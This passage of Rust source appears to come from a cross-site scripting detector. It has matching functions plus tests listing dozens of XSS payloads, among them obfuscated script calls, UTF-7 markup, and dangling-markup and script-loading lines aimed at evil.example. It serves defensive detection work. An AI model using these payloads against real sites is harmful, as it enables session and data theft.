    let Some(close) = close else {
        return false;
    };
    let rest = &b[close + 1..];
    let rest = &rest[skip_space(rest, 0)..];
    let rest = rest.strip_prefix(b";").unwrap_or(rest);
    let rest = &rest[skip_space(rest, 0)..];
    rest.is_empty() || rest.starts_with(b"//")
}

/// Elements that run or load script, as `createElement` names them.
const SCRIPT_ELEMENTS: &[&[u8]] = &[b"script", b"iframe", b"frame", b"embed", b"object", b"base"];

/// An element that runs or loads script created by name (`createElement('script')`), with or
/// without `document.` before it (`with(document)…createElement('script')`).
fn created_element(b: &[u8]) -> Option<Hit> {
    find_iter(b, b"createelement").find_map(|at| {
        let open = skip_js_space(b, at + 13);
        if b.get(open) != Some(&b'(') {
            return None;
        }
        let q = skip_js_space(b, open + 1);
        let quote = *b.get(q).filter(|c| matches!(c, b'\'' | b'"' | b'`'))?;
        let name = &b[q + 1..];
        let end = memchr::memchr(quote, name)?;
        SCRIPT_ELEMENTS
            .contains(&&name[..end])
            .then(|| Hit::new("xss.dom_sink", at, q + 2 + end))
    })
}

/// `new ActiveXObject(…)`: script reaching a COM object (`WScript.Shell` runs commands,
/// `htmlfile` a new document), which only Internet Explorer's script hosts had.
fn com_object(b: &[u8]) -> Option<Hit> {
    find_iter(b, b"activexobject").find_map(|at| {
        let new = b[..at].trim_ascii_end();
        let open = skip_js_space(b, at + 13);
        (new.ends_with(b"new")
            && new.len() < at
            && !new[..new.len() - 3].last().is_some_and(|c| is_word(*c))
            && b.get(open) == Some(&b'('))
        .then(|| Hit::new("xss.dom_sink", new.len() - 3, open + 1))
    })
}

/// Script spelled in pieces: string literals joined by `+` (`'java'+'scr'+'ipt:'`, also
/// across statements: `s1=''+'ale';s2='rt(1)'`) or regular expressions' sources
/// (`/ev/.source+/al/.source`). The pieces, read in order as one text, name a script URL, a
/// script tag or a dialog called; three pieces at least next to a `+`, so a lone `'a'+'b'` is
/// not read.
fn split_literals(b: &[u8]) -> Option<Hit> {
    let mut joined = Vec::new();
    let mut joins = 0;
    let mut i = 0;
    while i < b.len() && joined.len() < 4096 {
        let c = b[i];
        let (start, end, next) = match c {
            b'\'' | b'"' => match memchr::memchr(c, &b[i + 1..]) {
                Some(e) => (i + 1, i + 1 + e, i + 2 + e),
                None => break,
            },
            b'/' if b.get(i + 1).is_some_and(|n| *n != b'/' && *n != b'*') => {
                match memchr::memchr(b'/', &b[i + 1..]) {
                    Some(e) if b[i + 2 + e..].starts_with(b".source") => {
                        (i + 1, i + 1 + e, i + 2 + e + 7)
                    }
                    _ => {
                        i += 1;
                        continue;
                    }
                }
            }
            _ => {
                i += 1;
                continue;
            }
        };
        joined.extend_from_slice(&b[start..end]);
        let after = skip_js_space(b, next);
        let before = skip_back_js_space(b, i.saturating_sub(1));
        if b.get(after) == Some(&b'+') || (i > 0 && b[before] == b'+') {
            joins += 1;
        }
        i = next;
    }
    if joins < 3 {
        return None;
    }
    let called = |name: &[u8]| {
        find_iter(&joined, name).any(|p| matches!(joined.get(p + name.len()), Some(b'(' | b'`')))
    };
    let scheme = SCRIPT_SCHEMES
        .iter()
        .any(|s| find_iter(&joined, s).any(|p| joined.get(p + s.len()) == Some(&b':')));
    (scheme
        || find(&joined, b"<script").is_some()
        || DIALOG_NAMES.iter().any(|d| called(d.as_bytes())))
    .then(|| Hit::new("xss.js_breakout", 0, b.len().min(24)))
}

/// Script written with six characters (`[]()!+`): `(![]+[])[+!+[]]` spells letters out of
/// coerced booleans; three such atoms are not punctuation by chance, nor two around a
/// coerced value indexed (`])[`: the letter picked out of `"false"`).
fn jsfuck(b: &[u8]) -> Option<Hit> {
    let atoms = find_iter(b, b"![]").count() + find_iter(b, b"+[]").count();
    let indexed = atoms == 2 && find(b, b"])[").is_some();
    (atoms >= 3 || indexed).then(|| Hit::new("xss.js_breakout", 0, b.len().min(24)))
}

/// A dialog or eval reached without writing its call (`(0,alert)(1)`, `[1].map(alert)`,
/// `alert.call(null,1)`, `a=alert;a(1)`), a function built from a string and run at once
/// (`Function('…')()`, `[].constructor.constructor\`…\`\`\``), a script loaded by URL
/// (`import('//…')`, `$.getScript(…)`), or a global's member computed and called
/// (`window[atob('…')](1)`).
fn indirect_call(b: &[u8], dialog: bool) -> Option<Hit> {
    for open in memchr::memchr_iter(b'(', b).chain(memchr::memchr_iter(b'`', b)) {
        let (ws, we) = word_before(b, open);
        let name = &b[ws..we];
        if ws == we
            && computed_member_is(b, open, b"constructor")
            && called_at(b, group_end(b, open).map_or(b.len(), |e| e + 1))
        {
            return Some(Hit::new(
                "xss.js_breakout",
                open.saturating_sub(14),
                open + 1,
            ));
        }
        let built = match name {
            b"function" => ws == 0 || !is_word(b[ws - 1]),
            b"constructor" => true,
            _ => false,
        };
        if built && called_at(b, group_end(b, open).map_or(b.len(), |e| e + 1)) {
            return Some(Hit::new("xss.js_breakout", ws, open + 1));
        }
        if b[open] != b'(' {
            continue;
        }
        let q = skip_js_space(b, open + 1);
        let by_url = |q: usize| {
            matches!(b.get(q), Some(b'"' | b'\'' | b'`'))
                && [&b"//"[..], b"http:", b"https:", b"data:"]
                    .iter()
                    .any(|p| b[q + 1..].starts_with(p))
        };
        let jquery_load = matches!(name, b"getscript" | b"globaleval")
            && ws > 0
            && b[ws - 1] == b'.'
            && (b[..ws - 1].ends_with(b"$") || b[..ws - 1].ends_with(b"jquery"));
        if (name == b"import" && by_url(q)) || jquery_load {
            return Some(Hit::new("xss.js_breakout", ws, open + 1));
        }
    }
    // The keyword pass saw no dialog name: nothing below can match.
    for (ws, we) in dialog.then(|| dialog_words(b)).into_iter().flatten() {
        let before = skip_back_js_space(b, ws.saturating_sub(1));
        let prev = if ws == 0 { 0 } else { b[before] };
        let after = skip_js_space(b, we);
        let next = b.get(after).copied().unwrap_or(0);
        // `(alert)(1)`, `(0,eval)(x)`: the name alone in parentheses, then called.
        let parenthesized = matches!(prev, b'(' | b',')
            && next == b')'
            && matches!(b.get(after + 1), Some(b'(' | b'`'))
            && called_at(b, after + 1);
        // `[1].find(alert)`, `Reflect.apply(alert,…)`: a method's argument.
        let callback = matches!(prev, b'(' | b',')
            && matches!(next, b')' | b',')
            && method_call_open(b, before);
        // `alert.call(…)`, `eval.apply(…)`, `prompt.bind(…)()`.
        let via = next == b'.' && {
            let m = skip_js_space(b, after + 1);
            let e = m + b[m..]
                .iter()
                .take_while(|c| c.is_ascii_alphabetic())
                .count();
            matches!(&b[m..e], b"call" | b"apply" | b"bind") && called_at(b, e)
        };
        if parenthesized || callback || via || aliased(b, ws, we) {
            return Some(Hit::new("xss.js_breakout", ws, we));
        }
    }
    global_computed_call(b)
}

/// Whether what ends just before `i` is the computed member `['name']` (any quote).
fn computed_member_is(b: &[u8], i: usize, name: &[u8]) -> bool {
    let k = skip_back_js_space(b, i.saturating_sub(1));
    if i == 0 || b[k] != b']' || k == 0 {
        return false;
    }
    let q = skip_back_js_space(b, k - 1);
    let Some(open) = q.checked_sub(name.len() + 1) else {
        return false;
    };
    matches!(b[q], b'"' | b'\'' | b'`')
        && b[open] == b[q]
        && &b[open + 1..q] == name
        && open > 0
        && b[skip_back_js_space(b, open - 1)] == b'['
}

/// Every dialog name of `b` written as a whole identifier.
fn dialog_words(b: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
    DIALOG_NAMES
        .iter()
        .map(|d| d.as_bytes())
        .flat_map(move |d| {
            find_iter(b, d).filter_map(move |s| {
                let e = s + d.len();
                let whole = (s == 0 || !(is_word(b[s - 1]) || b[s - 1] == b'$'))
                    && b.get(e).is_none_or(|c| !(is_word(*c) || *c == b'$'));
                whole.then_some((s, e))
            })
        })
}

/// Whether a call opens at `i` (after spaces): `(…)` with something in it or a template.
fn called_at(b: &[u8], i: usize) -> bool {
    let i = skip_js_space(b, i);
    match b.get(i) {
        Some(b'`') => true,
        Some(b'(') => group_end(b, i).is_some(),
        _ => false,
    }
}

/// Whether the `(` at `open` opens a method call's arguments (`.map(`, `.apply(`).
fn method_call_open(b: &[u8], open: usize) -> bool {
    if b.get(open) != Some(&b'(') {
        // A later argument: find the call's `(` on the same level, within 512 bytes (as
        // `group_end` looks forward): every dialog name of `,alert,alert,…` asks.
        let from = open.saturating_sub(512);
        let mut depth = 0usize;
        let Some(p) = b[from..open].iter().rposition(|c| {
            match c {
                b')' | b']' => depth += 1,
                b'(' | b'[' if depth > 0 => depth -= 1,
                b'(' => return true,
                _ => {}
            }
            false
        }) else {
            return false;
        };
        return method_call_open(b, from + p);
    }
    let (ws, we) = word_before(b, open);
    we == open && ws < we && ws > 0 && b[ws - 1] == b'.'
}

/// `x=alert,x(1)` or `a=alert;a\`1\``: a dialog given a new name that is then called.
fn aliased(b: &[u8], ws: usize, we: usize) -> bool {
    let eq = skip_back_js_space(b, ws.saturating_sub(1));
    if ws == 0 || b[eq] != b'=' || eq == 0 {
        return false;
    }
    let (mut ns, ne) = word_before(b, eq);
    // JavaScript names may hold `$` (`$$$=eval,$$$(…)`).
    while ns > 0 && b[ns - 1] == b'$' {
        ns -= 1;
    }
    let sep = skip_js_space(b, we);
    if ns == ne || !matches!(b.get(sep), Some(b',' | b';')) {
        return false;
    }
    let alias = &b[ns..ne];
    // The call follows within 512 bytes: every `a=alert,` of a long run asks.
    find_iter(&b[sep..b.len().min(sep + 512)], alias).any(|p| {
        let s = sep + p;
        let e = s + alias.len();
        !is_word(b[s - 1]) && b.get(e).is_some_and(|c| matches!(c, b'(' | b'`')) && called_at(b, e)
    })
}

/// A global's member computed by an expression and called: `window[atob('YWxlcnQ=')](1)`,
/// `self[Object.keys(self)[5]](1)`, `top[/al/.source+/ert/.source]\`1\``,
/// `this['ale'+'rt'](1)` (`this` is the global object outside a function).
fn global_computed_call(b: &[u8]) -> Option<Hit> {
    for open in memchr::memchr_iter(b'[', b) {
        let (ws, we) = word_before(b, open);
        let global = GLOBALS.contains(&&b[ws..we]) || &b[ws..we] == b"this";
        if !global || (ws > 0 && is_word(b[ws - 1])) {
            continue;
        }
        let Some(close) = group_end(b, open) else {
            continue;
        };
        let inner = &b[open + 1..close];
        // A name made by a call, from a regular expression's source or by joining string
        // literals, not a variable.
        let computed = inner.iter().any(|c| matches!(c, b'(' | b'/')) || joins_literals(inner);
        if computed && called_at(b, close + 1) {
            return Some(Hit::new("xss.dom_sink", ws, close + 1));
        }
    }
    None
}

/// Whether `e` joins string literals: a closing quote, `+`, an opening quote (`'ale'+'rt'`).
fn joins_literals(e: &[u8]) -> bool {
    memchr::memchr_iter(b'+', e).any(|p| {
        let before = e[..p].trim_ascii_end();
        let after = e[p + 1..].trim_ascii_start();
        let quote = |c: Option<&u8>| matches!(c, Some(b'"' | b'\'' | b'`'));
        quote(before.last()) && quote(after.first())
    })
}

/// The index of what closes the group opened at `open` (`(`, `[` or a template's backtick,
/// whose `${…}` may hold templates of their own), looked for within 512 bytes.
fn group_end(b: &[u8], open: usize) -> Option<usize> {
    let end = b.len().min(open + 512);
    if b[open] == b'`' {
        let mut i = open + 1;
        let mut braces = 0usize;
        while i < end {
            match b[i] {
                b'\\' => i += 1,
                b'`' if braces == 0 => return Some(i),
                b'`' => i = memchr::memchr(b'`', &b[i + 1..end]).map(|e| i + 1 + e)?,
                b'$' if b.get(i + 1) == Some(&b'{') => {
                    braces += 1;
                    i += 1;
                }
                b'}' if braces > 0 => braces -= 1,
                _ => {}
            }
            i += 1;
        }
        return None;
    }
    let (o, c) = if b[open] == b'[' {
        (b'[', b']')
    } else {
        (b'(', b')')
    };
    let mut depth = 0usize;
    b[open..end]
        .iter()
        .position(|&x| {
            if x == o {
                depth += 1;
            } else if x == c {
                depth -= 1;
            }
            depth == 0
        })
        .map(|e| open + e)
}

/// A tagged template calling through `Function.prototype` (`[].sort.call\`${alert}1\``).
fn tagged_call(b: &[u8]) -> Option<Hit> {
    for tick in memchr::memchr_iter(b'`', b) {
        let (ws, we) = word_before(b, tick);
        let dot = ws.checked_sub(1).map(|d| skip_back_js_space(b, d));
        if matches!(&b[ws..we], b"call" | b"apply" | b"bind") && dot.is_some_and(|d| b[d] == b'.') {
            return Some(Hit::new("xss.js_breakout", ws, tick + 1));
        }
    }
    None
}

/// The index of the last non-space byte at or before `i`.
fn skip_back_js_space(b: &[u8], mut i: usize) -> usize {
    while i > 0 && b[i].is_ascii_whitespace() {
        i -= 1;
    }
    i
}

/// The same sinks reached by a computed member: `document["cookie"]`,
/// `(document)['cookie']`, `window["alert"](1)`, `self["eval"]`.
fn bracket_sink(b: &[u8]) -> Option<Hit> {
    for open in memchr::memchr_iter(b'[', b) {
        let (mut ws, mut we) = word_before(b, open);
        if ws == we && we > 0 && b[we - 1] == b')' {
            (ws, we) = word_before(b, we - 1);
        }
        if ws == we || (ws > 0 && is_word(b[ws - 1])) {
            continue;
        }
        let obj = &b[ws..we];
        let q = skip_js_space(b, open + 1);
        if !matches!(b.get(q), Some(b'"' | b'\'' | b'`')) {
            continue;
        }
        if GLOBALS.contains(&obj) && computed_call(b, q) {
            return Some(Hit::new("xss.dom_sink", ws, q + 1));
        }
        let ps = q + 1;
        let pe = ps
            + b[ps..]
                .iter()
                .take(24)
                .take_while(|c| c.is_ascii_alphabetic())
                .count();
        if !matches!(b.get(pe), Some(c) if *c == b[q]) {
            continue;
        }
        let prop = &b[ps..pe];
        let sink = SINK_OBJECTS
            .iter()
            .any(|(o, props)| *o == obj && props.contains(&prop));
        let global = (GLOBALS.contains(&obj) && (CALLS.contains(&prop) || prop == b"document"))
            || (obj == b"this" && is_dialog(prop));
        if sink || global {
            return Some(Hit::new("xss.dom_sink", ws, pe + 1));
        }
    }
    None
}

/// Whether the quoted member opened at `q` starts a chain of computed members that ends in a
/// call (`self["$"]["globalEval"](…)`, `top["al"+"ert"](1)`): a global reached by strings,
/// then called.
fn computed_call(b: &[u8], mut q: usize) -> bool {
    for _ in 0..4 {
        // The member, and up to eight strings joined to it with `+`.
        let mut k = q;
        for part in 0..9 {
            let Some(close) = b
                .get(k + 1..)
                .and_then(|r| r.iter().take(64).position(|c| *c == b[k]))
            else {
                return false;
            };
            k = skip_js_space(b, k + 1 + close + 1);
            if b.get(k) != Some(&b'+') || part == 8 {
                break;
            }
            k = skip_js_space(b, k + 1);
            if !matches!(b.get(k), Some(b'"' | b'\'' | b'`')) {
                return false;
            }
        }
        if b.get(k) != Some(&b']') {
            return false;
        }
        let n = skip_js_space(b, k + 1);
        match b.get(n) {
            Some(b'(') => return true,
            Some(b'[') => {
                q = skip_js_space(b, n + 1);
                if !matches!(b.get(q), Some(b'"' | b'\'' | b'`')) {
                    return false;
                }
            }
            _ => return false,
        }
    }
    false
}

fn word_before(b: &[u8], i: usize) -> (usize, usize) {
    let mut e = i;
    // Allow `/* */` comments and whitespace between the object and the dot.
    loop {
        while e > 0 && b[e - 1].is_ascii_whitespace() {
            e -= 1;
        }
        if e >= 2 && &b[e - 2..e] == b"*/" {
            // Comments between an object and its dot: looked for within a short window.
            match memchr::memmem::rfind(&b[e.saturating_sub(64)..e - 2], b"/*")
                .map(|x| x + e.saturating_sub(64))
            {
                Some(s) => {
                    e = s;
                    continue;
                }
                None => break,
            }
        }
        break;
    }
    let mut s = e;
    while s > 0 && (b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_') {
        s -= 1;
    }
    (s, e)
}

fn skip_js_space(b: &[u8], mut i: usize) -> usize {
    loop {
        i = skip_space(b, i);
        if b.get(i..i + 2) == Some(b"/*") {
            let window = &b[i + 2..b.len().min(i + 66)];
            match find(window, b"*/") {
                Some(e) => i = i + 2 + e + 2,
                None => return i,
            }
            continue;
        }
        return i;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::subject::test_subject;

    fn rule(text: &str) -> Option<&'static str> {
        test_subject(text, 1, detect).map(|h| h.rule)
    }

    /// Script assembled at run time: an element created by name, literals joined into a
    /// script URL or a call, a dialog renamed through `$` names.
    #[test]
    fn script_assembled_from_pieces() {
        for a in [
            "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.ws'",
            "x=createElement( \"iframe\" );x.src=u",
            "s1=''+'java'+''+'scr'+'';s2=''+'ipt'+':'+'ale'+'';s3=''+'rt'+''+'(1)'+''",
            "s=['java'+''+''+'scr'+'ipt'+':'+'aler'+'t'+'(1)']",
            "u='<scr'+'ipt src=//x>'+'</scr'+'ipt>'",
            "f=/ale/.source+/rt/.source+/(1)/.source",
            "$=document,$$=unescape,$$$=eval,$$$($$($))",
        ] {
            assert!(rule(a).is_some(), "{a}");
        }
        for b in [
            "name='a'+'b'+'c'",
            "I said 'hello' + 'world' + 'again' to alert (them)",
            "the createElement('div') call",
            "price: '5' + '10' + '15' = '30'",
        ] {
            assert_eq!(rule(b), None, "{b}");
        }
    }

    /// Found by review: the scheme starts at its first letter (a word before it and a line
    /// break are not part of it), and high-bit markup is lowercased and read whatever ASCII
    /// signs the value lacks.
    #[test]
    fn scheme_bounds_and_high_bit_markup() {
        for a in [
            "hi javascript:alert(1)",
            "x\njavascript:alert(1)",
            // What a filter deleting `script` or `javascript` once leaves (dalfox).
            "javasscriptcript:alert(1)",
            "<a href=\"javascriptjavascript:confirm(1)\">",
            "jajavascriptvascript:prompt`1`",
            "\u{bc}\u{d3}\u{c3}\u{d2}\u{c9}\u{d0}\u{d4}\u{be}alert(1)",
            "\u{bc}\u{f3}\u{e3}\u{f2}\u{e9}\u{f0}\u{f4} \u{f3}\u{f2}\u{e3}\u{bd}x\u{be}",
        ] {
            assert!(rule(a).is_some(), "{a}");
        }
        for b in [
            "Books:\nJavaScript: The Good Parts",
            "hijavascript:alert(1)",
            "JavaScriptJavaScript: the sequel",
            "Manuscript:",
            "PostScript: see the notes",
        ] {
            assert_eq!(rule(b), None, "{b}");
        }
    }

    #[test]
    fn attacks() {
        for a in [
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
            "<meta charset=\"UTF-7\">+ADw-script+AD4-",
            "<head><meta charset=\"iso-2022-jp\"></head>",
            "<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=ISO-2022-JP\"></head>",
            "<head><meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\"></head>",
            // Injected on its own, outside a document's head: a probe.
            "<meta charset=\"UTF-8\">",
            "<p>x</p><meta http-equiv=\"Content-Type\" content=\"text/html\">",
            "(document)[\"cookie\"]",
            "document[\"cookie\"]",
            "window['alert'](1)",
            "<if expr=\"new ActiveXObject('htmlfile').parentWindow.alert(2)\"></if>",
            "new ActiveXObject(\"WScript.Shell\").Run(\"calc\")",
            "x=opener.alert(1)",
            "frames[0].contentWindow.confirm`1`",
            "self[/*x*/\"eval\"](name)",
            "style=x:url(javascript:alert(1))",
            "-moz-binding:url(http://evil.example/x.xml#x)",
            "left:expression(alert('XSS'))",
            "<style TYPE=\"text/javascript\">document.vulnerable=true;</style>",
            "<XML SRC=\"http://evil.example/xsstest.xml\" ID=I></XML>",
            "top.open`javascript:alert(1)`",
            "parent.open('//evil.example')",
            "width: expression(alert(1))",
            "left:EXPR/**/ESSION(alert('XSS'))",
            "xss:ex/*XSS*//*/*/pression(alert(1))",
            "x{behavior: url(//evil.example/x.htc)}",
            "<script>alert(1)</script>",
            "<ScRiPt SRC=//evil.example/x.js>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<body onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "javascript:alert(document.domain)",
            "<div style=\"width: expression(alert(1))\">",
            "';alert(String.fromCharCode(88,83,83))//",
            "document /*foo*/ . cookie",
            "<iframe src=data:text/html;base64,PHNjcmlwdD4=>",
            "<details open ontoggle=alert(1)>",
            "<x onclick=alert(1)>click",
            "\"-alert(1)-\"",
            // A whole value that is a dialog or timer call, obfuscated script, UTF-7 markup.
            "confirm(document.domain);",
            "prompt`1`",
            "setTimeout(run, 10) // x",
            "[+!+[]]+(![]+[])[+[]]",
            "(![]+[])[+!+[]]",
            "[1,2].map.call`${prompt}2`",
            "+ADw-img src=x+AD4-",
            "<\"onpointerrawupdatewithsomeverylongname=x>",
            // Spaced tag names, `<base href`, stylesheets by `<link>`, split schemes.
            "x<f o r m action=y",
            "<s c r i p t>",
            "a <i f r a m e",
            "<BASE x HREF / =",
            "<link href=\"x.js\" rel=stylesheet>",
            "<LINK REL=\\\"stylesheet\\\" HREF=\\\"http://ha.ckers.org/xss.css\\\">",
            "<link rel=\"alternate stylesheet\" href=\"//evil.example/x.css\">",
            "ja\tvascript:",
            "v\nb\ts\nc\nr\ti\tp\nt::",
            "self[\"$\"][\"globalEval\"](\"alert(1)\")",
            "top['x'](1)",
            "top[\"al\"+\"ert\"](1)",
            "window['ev' + 'a' + `l`](atob(x))",
            // Dialogs reached without a plain call, functions built from strings and run.
            "top.alert(1)",
            "';self.confirm`1`//",
            "(alert)(1)",
            "(0,eval)('x')",
            "[1].map(alert)",
            "Reflect.apply(prompt,null,[1])",
            "alert.call(null,1)",
            "x=alert,x(1)",
            "Function('alert(1)')()",
            "[].constructor.constructor('alert(1)')()",
            "{{$on.constructor('alert(1)')()}}",
            "Set.constructor`alert\\x281\\x29```",
            "''['constructor']['constructor']('x')()",
            "import('//evil.example/x.js')",
            "$.getScript('//evil.example/x.js')",
            "window[atob('YWxlcnQ=')](1)",
            "self[Object.keys(self)[5]](1)",
            "this['alert'](1)",
            "';this['ale'+'rt'](this['doc'+'ument']['dom'+'ain']);//",
            "top[\"con\" + \"firm\"](1)",
            // Break-outs through templates, comments, operators and keywords.
            "${alert(1)}",
            "*/alert(1)/*",
            "'^alert(1)^'",
            "'-typeof alert(1)-'",
            "'in alert(1) in'",
            "';alert/**/(1)//",
            "alert?.(1)",
            "onerror=prompt",
            // UTF-7 runs and script data URIs.
            "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
            "data:text/javascript;base64,YWxlcnQoMSk=",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
    }

    #[test]
    fn markup_and_prose_pass() {
        for b in [
            // An HTML e-mail's head.
            "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>Hi</body></html>",
            "<head><meta charset=\"utf-8\"><meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\"></head>",
            "<b>bold</b> and <i>italic</i>",
            "Is ActiveXObject (IE only) still needed? No: renew ActiveXObject(s) support never.",
            "The can opener alerts (1) were resolved",
            "<a href=\"https://example.com/a?b=c\">link</a>",
            // Cut short, but to the page's own path; a quote left open on a plain attribute.
            "<a href=\"/docs/guide",
            "Here's a video: <a href=\"https://www.youtube.com/watch?v=",
            "<img alt=\"a photo of the bay",
            "3 < 5 and 7 > 2",
            "John Smith <john@example.com>",
            "Meeting at 10:30, see https://example.com",
            "javascript: the good parts",
            // The same title URL-encoded, as a multipart field or a raw query carries it.
            "JavaScript:%20Basics%20of%20JavaScript%20Language",
            "JavaScript:+Basics+of+JavaScript",
            "price=5&once=2",
            "alert(s) are sent by email",
            "see document.pdf for details",
            "<p class=\"note\">Hello</p>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\"><rect width=\"10\" fill=\"red\"/></svg>",
            "<svg width='4' xmlns='http://www.w3.org/2000/svg'><circle r='2'/></svg>",
            "{\"window\": [\"alert\"]}",
            "background: url(images/javascript-logo.png)",
            "document[0] and window['size']",
            "confirm(ed) bookings: 4",
            "print(this page)",
            "Prompt (see below)",
            "a+[]b and !x",
            "a = ![]+[]; b = c[0]",
            "the call`s result",
            "C++ADw-like",
            "a <b c d> e",
            "<s e e> also",
            "x < f o r me",
            "<i>f o r m</i>",
            "<link rel=\"alternate\" href=\"https://example.com/feed\"/>",
            "Note: expression(s) of interest",
            "<style type=\"text/css\">p{color:red}</style>",
            "<?xml version=\"1.0\"?><xml><src>a</src></xml>",
            "self.open(path)",
            "top.open()",
            "Regular expression: (a|b)+",
            "Expression (math) is fine",
            "the expression(x) is evaluated: lazily",
            "<base>value</base>",
            "java script: the language",
            "top[\"score\"] = 5",
            "top[\"a\" + \"b\"] = 5",
            "top[\"a\" + x](1)",
            // Code and prose near the new shapes.
            "The alert, critical and error levels (alert) (crit) are mapped.",
            "levels(alert,crit,err)",
            "severity=alert, facility=local0",
            "Use new Function('a', 'return a') to build one.",
            "Use setTimeout(() => done(), 100) in the handler",
            "items.map(item => item.id)",
            "window[0] is the first frame",
            "window[key] = value",
            "content[\"document\"] = doc",
            "this[\"value\"] = 3",
            "import('./local-module.js')",
            "In React use `onClick={handleClick}` for events.",
            "In React 'x' in alert(s) mode",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }

    #[test]
    fn dom_clobbering_and_framework_handlers() {
        for (a, want) in [
            ("<form id=test><input name=attributes></form>", "xss.dom_clobbering"),
            ("<img name=cookie>", "xss.dom_clobbering"),
            ("<img src='https://evil.example/log?html=", "xss.dangling_markup"),
            ("\"><img src='//evil.example/?c=", "xss.dangling_markup"),
            ("<table background=\"http://evil.example/?", "xss.dangling_markup"),
            ("<form><button formaction=//evil>XSS</button>", "xss.dangerous_tag"),
            ("<form id=x action=https://evil.example/s target='", "xss.dangerous_tag"),
            ("<a id=x><a id=x name=y href=//evil.example>", "xss.dom_clobbering"),
            (
                "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
                "xss.event_handler",
            ),
            ("<div ng-init=\"x=alert(1)\">", "xss.event_handler"),
            ("<p v-on:click=\"alert(1)\">", "xss.event_handler"),
        ] {
            assert_eq!(rule(a), Some(want), "{a}");
        }
        for b in [
            "<h2 id=\"a\">A</h2><h2 id=\"b\">B</h2>",
            "<img name=\"logo\" src=\"/logo.png\">",
            "<button ng-click=\"save\">",
            "<form action=\"/search\" method=\"get\"><input name=q></form>",
            "this[key](value); this['name'] + 'x'",
            "JavaScript: The Good Parts (book)",
            "See window.open() docs",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
        assert!(rule("javascript: alert(1)").is_some());
        assert!(rule("javascript:%20alert(1)").is_some());
        assert!(rule("javascript:+alert(1)").is_some());
    }

    #[test]
    fn high_bit_markup_and_dom_queries() {
        for a in [
            "\u{bc}script\u{be}alert(\u{a2}XSS\u{a2})\u{bc}/script\u{be}",
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "document.getElementById('x').innerHTML=y",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
        for b in [
            "\u{bc} cup sugar, \u{be} cup flour",
            "\u{bc}b\u{be} bold",
            "document.getElementById() docs",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }
}
